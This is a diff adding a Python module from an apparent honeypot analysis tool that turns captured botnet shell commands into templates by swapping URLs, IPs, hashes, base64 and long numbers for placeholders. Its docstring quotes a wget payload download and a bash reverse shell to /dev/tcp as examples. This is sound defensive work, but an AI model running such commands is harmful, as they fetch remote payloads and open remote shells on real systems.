@@ -0,0 +1,68 @@
+"""
+normalizer.py — Shell Command Templating
+
+Botnets replay the same command with only the C2 address, port, download
+URL or payload changed. `fingerprint()` tokenizes a command and replaces the
+variable parts with typed placeholders, so all of those variants collapse to
+one template:
+
+    wget http://203.0.113.7/botnet.sh        →  wget <URL>
+    bash -i >& /dev/tcp/10.0.0.99/4444 0>&1  →  bash -i >& /dev/tcp/<IP>/<NUM> 0>&1
+
+The template is stored on every `HoneypotCommand` row and keys the Gemini
+analysis cache and the fingerprint aggregation endpoint, so analysis cost
+scales with distinct behaviours rather than raw event volume. The rule
+tables run on (and memoize) the raw command instead: their verdict depends
+on the very URLs and paths a template replaces.
+
+Numbers shorter than four digits are kept: they usually carry meaning
+(file modes, file descriptors, signal numbers) and the rule tables match on
+some of them (`chmod 777`).
+
+Tuning (environment variables):
+    FINGERPRINT_CACHE_SIZE   memoized command → template entries (default 65536)
+"""
+
+import os
+import re
+from functools import lru_cache
+
+FINGERPRINT_CACHE_SIZE = int(os.getenv("FINGERPRINT_CACHE_SIZE", "65536"))
+
+# Whitespace runs, quoted strings, shell operators and plain words
+_TOKEN = re.compile(r"""\s+|'[^']*'?|"(?:\\.|[^"\\])*"?|[|&;<>()]+|[^\s|&;<>()'"]+""")
+
+# Applied in order to each word / quoted token
+_SUBSTITUTIONS = (
+    ("<URL>", re.compile(r"[A-Za-z][A-Za-z0-9+.-]*://[^\s'\"|&;<>()]+")),
+    ("<IP>", re.compile(r"(?<![\w.])(?:\d{1,3}\.){3}\d{1,3}(?::\d{1,5})?(?![\w.])")),
+    ("<HASH>", re.compile(r"(?<![0-9A-Za-z])(?:[0-9a-fA-F]{64}|[0-9a-fA-F]{40}|[0-9a-fA-F]{32})(?![0-9A-Za-z])")),
+    # A run containing "/" must also hold an uppercase letter or "+", so paths
+    # like /usr/lib/python3/dist-packages are kept
+    ("<B64>", re.compile(
+        r"(?<![A-Za-z0-9+/=])(?=[A-Za-z0-9+/]*\d)(?=[A-Za-z0-9+/]*[A-Za-z])"
+        r"(?:[A-Za-z0-9+]{20,}|(?=[A-Za-z0-9+/]*[A-Z+])[A-Za-z0-9+/]{20,})={0,2}(?![A-Za-z0-9+/=])"
+    )),
+    ("<NUM>", re.compile(r"(?<![\w.])\d{4,}(?![\w.])")),
+)
+
+
+def _template(token: str) -> str:
+    for placeholder, pattern in _SUBSTITUTIONS:
+        token = pattern.sub(placeholder, token)
+    return token
+
+
+@lru_cache(maxsize=FINGERPRINT_CACHE_SIZE)
+def fingerprint(command: str) -> str:
+    """Template of `command`: variable parts replaced, whitespace collapsed."""
+    parts = []
+    for match in _TOKEN.finditer(command.strip()):
+        token = match.group()
+        if token.isspace():
+            parts.append(" ")
+        elif token[0] in "|&;<>()":
+            parts.append(token)
+        else:
+            parts.append(_template(token))
+    return "".join(parts)